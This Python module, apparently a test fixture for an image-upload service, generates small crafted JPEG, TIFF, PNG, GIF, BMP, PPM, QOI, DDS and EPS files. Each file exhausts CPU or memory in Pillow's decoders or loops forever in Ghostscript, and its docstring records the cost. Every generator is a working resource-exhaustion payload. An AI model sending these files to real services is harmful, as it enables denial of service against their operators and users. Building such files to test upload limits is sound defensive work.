"""Small files that cost a decoder much: each is made here, and named after what it abuses.

Each is smaller than what may be uploaded. What it costs without a limit stands beside it: seconds
and memory of Pillow 12.3, measured on one core for 25 s at most.
"""

import io
import struct
import zlib
from collections.abc import Callable, Iterable

from PIL import Image

SIDE = 8000  # pixels, of the JPEG: as large as one may be


def tag(number: int, kind: int, count: int, value: int) -> bytes:
    """Return a directory entry of a little-endian TIFF."""
    return struct.pack("<HHII", number, kind, count, value)


def directory(tags: Iterable[bytes], following: int = 0) -> bytes:
    tags = list(tags)
    return struct.pack("<H", len(tags)) + b"".join(tags) + struct.pack("<I", following)


def tiff(tags: Iterable[bytes], rest: bytes = b"") -> bytes:
    return b"II*\0\x08\0\0\0" + directory(tags) + rest


def plain_tags(width: int = 8, height: int = 8) -> list[bytes]:
    """Return the tags of a grey, uncompressed page of one strip, which starts at byte 0."""
    return [
        tag(256, 3, 1, width),
        tag(257, 3, 1, height),
        tag(258, 3, 1, 8),
        tag(262, 3, 1, 1),
        tag(273, 4, 1, 0),
    ]


def segment(marker: int, data: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data


def chunk(kind: bytes, data: bytes = b"") -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def encode(kind: str, size: tuple[int, int] = (8, 8), mode: str = "L", **options) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, "white").save(out, kind, **options)
    return out.getvalue()


def to_bytes(bits: str) -> bytes:
    """Return bits as a JPEG's scan holds them: padded with ones, each 0xFF followed by a 0."""
    bits += "1" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big").replace(b"\xff", b"\xff\0")


def jpeg_of_scans(scans: int = 2000, side: int = SIDE) -> bytes:
    """Return a progressive JPEG that visits every block again in each scan: over 25 s."""
    frame = segment(0xC2, struct.pack(">BHHBBBB", 8, side, side, 1, 1, 0x11, 0))
    one_symbol = bytes([1, *[0] * 15])  # a Huffman table of one code, of one bit
    huffman = segment(0xC4, b"\0" + one_symbol + b"\0") + segment(
        0xC4, b"\x10" + one_symbol + b"\xe0"
    )
    blocks = (-(-side // 8)) ** 2
    first = segment(0xDA, bytes([1, 1, 0, 0, 0, 1])) + bytes(-(-blocks // 8))
    runs = to_bytes(("0" + "1" * 14) * -(-blocks // 32767))  # blocks without a coefficient
    again = segment(0xDA, bytes([1, 1, 0, 1, 63, 0x10])) + runs
    tables = segment(0xDB, b"\0" + b"\1" * 64)
    return b"\xff\xd8" + tables + frame + huffman + first + again * scans + b"\xff\xd9"


def jpeg_of_exif_tags(tags: int = 30_000) -> bytes:
    """Return a JPEG whose Exif tags, over several segments, hold the same bytes: 24 s, 9 GB."""
    exif = tiff_of_same_bytes(tags)
    pieces = [exif[i : i + 65_000] for i in range(0, len(exif), 65_000)]
    return (
        b"\xff\xd8"
        + b"".join(segment(0xE1, b"Exif\0\0" + piece) for piece in pieces)
        + encode("JPEG")[20:]
    )  # without its JFIF head, so that the resolution is sought in Exif


def jpeg_of_junk(size: int = 19_000_000) -> bytes:
    """Return a JPEG whose segments lie far apart; Pillow looks at each byte between: 1 s."""
    content = encode("JPEG")
    return content[:20] + bytes(size) + content[20:]


def tiff_of_same_bytes(tags: int = 30_000, held: int = 300_000) -> bytes:
    """Return a TIFF of many tags, each of which holds the same bytes: over 25 s, 12 GB."""
    many = (tag(1000 + number, 1, held, 8) for number in range(tags))
    return tiff([*plain_tags(), *many], bytes(held))


def tiff_of_pages(pages: int = 190_000) -> bytes:
    """Return a TIFF of many pages; each is compared with all before: over 25 s."""
    page = 2 + 5 * 12 + 4
    return b"II*\0\x08\0\0\0" + b"".join(
        directory(plain_tags(), 8 + page * number if number < pages else 0)
        for number in range(1, pages + 1)
    )


def tiff_of_strips(strips: int = 20_000, side: int = 4000) -> bytes:
    """Return a TIFF that paints the whole picture over and over: 11 s."""
    tags = [*plain_tags(side, side)[:4], tag(273, 4, strips, 200), tag(278, 3, 1, side // 2)]
    return tiff(tags).ljust(200, b"\0") + bytes(4 * strips + side * side // 2)


def tiff_of_rationals(values: int = 2_000_000) -> bytes:
    """Return a TIFF with a resolution of millions of fractions: 3 s, 300 MB."""
    return tiff([*plain_tags(), tag(282, 5, values, 200)]).ljust(200, b"\0") + bytes(8 * values)


def png_of_chunks(chunks: int = 1_500_000) -> bytes:
    """Return a PNG of empty chunks: 4 s, 180 MB."""
    content = encode("PNG")
    return content[:33] + chunk(b"prVt") * chunks + content[33:]


def png_of_raw_profile(tags: int = 15_000) -> bytes:
    """Return a PNG whose text holds Exif tags of the same bytes: 17 s, 4 GB."""
    exif = b"Exif\0\0" + tiff_of_same_bytes(tags, 250_000)
    text = zlib.compress(b"\nexif\n%8d\n" % len(exif) + exif.hex().encode())
    content = encode("PNG")
    return content[:33] + chunk(b"zTXt", b"Raw profile type exif\0\0" + text) + content[33:]


def png_of_profiles(profiles: int = 15_000) -> bytes:
    """Return a PNG of colour profiles, each of which unpacks to a megabyte: over 25 s."""
    content = encode("PNG")
    return (
        content[:33]
        + chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(2**20))) * profiles
        + content[33:]
    )


def gif_of_comment(size: int = 16_000_000) -> bytes:
    """Return a GIF whose comment is copied anew for each 255 bytes of it: over 25 s."""
    content = encode("GIF")
    comment = b"!\xfe" + (b"\xff" + b"x" * 255) * (size // 256) + b"\0"
    start = content.index(b",")
    return content[:start] + comment + content[start:]


def gif_of_extensions(number: int = 3_600_000) -> bytes:
    """Return a GIF of short extensions: 1 s."""
    content = encode("GIF")
    start = content.index(b",")
    return content[:start] + b"!\x01\x01x\0" * number + content[start:]


def bmp_of_runs(pixels: int = 16_000_000) -> bytes:
    """Return a BMP of runs of one pixel each, which are read in Python: 3 s."""
    width = 4000
    head = struct.pack("<IiiHHIIiiII", 40, width, pixels // width, 1, 8, 1, 0, 0, 0, 256, 0)
    return (
        b"BM"
        + struct.pack("<III", 0, 0, 14 + 40 + 1024)
        + head
        + bytes(range(256)) * 4
        + (b"\1\x07" * 9_000_000)
    )


def ppm_of_words(pixels: int = 9_000_000) -> bytes:
    """Return a picture written in decimal numbers, which are read in Python: 3 s."""
    return b"P2 3000 %d 255\n" % (pixels // 3000) + b"7 " * pixels


def ppm_of_levels(pixels: int = 15_000_000) -> bytes:
    """Return a picture of 200 levels of grey, which are scaled in Python: 8 s."""
    return b"P5 3000 %d 200\n" % (pixels // 3000) + bytes(pixels)


def qoi(side: int = 4000) -> bytes:
    """Return a QOI of small differences, which are added up in Python: 11 s."""
    return struct.pack(">4sIIBB", b"qoif", side, side, 3, 0) + b"\x6a" * (side * side)


def dds(pixels: int = 6_000_000) -> bytes:
    """Return a DDS whose pixels are put together in Python: 5 s."""
    width = 3000
    form = struct.pack("<IIIIIIII", 32, 0x40, 0, 24, 0xFF0000, 0xFF00, 0xFF, 0)
    head = struct.pack("<IIIII", 124, 0x1007, pixels // width, width, 0) + bytes(52)
    return b"DDS " + (head + form).ljust(124, b"\0") + bytes(3 * pixels)


def eps() -> bytes:
    """Return a program for Ghostscript that does not end."""
    return b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n%%EndComments\n{} loop\n"


ATTACKS: dict[str, Callable[[], bytes]] = {
    attack.__name__: attack
    for attack in (
        jpeg_of_scans,
        jpeg_of_exif_tags,
        jpeg_of_junk,
        tiff_of_same_bytes,
        tiff_of_pages,
        tiff_of_strips,
        tiff_of_rationals,
        png_of_chunks,
        png_of_profiles,
        png_of_raw_profile,
        gif_of_comment,
        gif_of_extensions,
        bmp_of_runs,
        ppm_of_words,
        ppm_of_levels,
        qoi,
        dds,
        eps,
    )
}
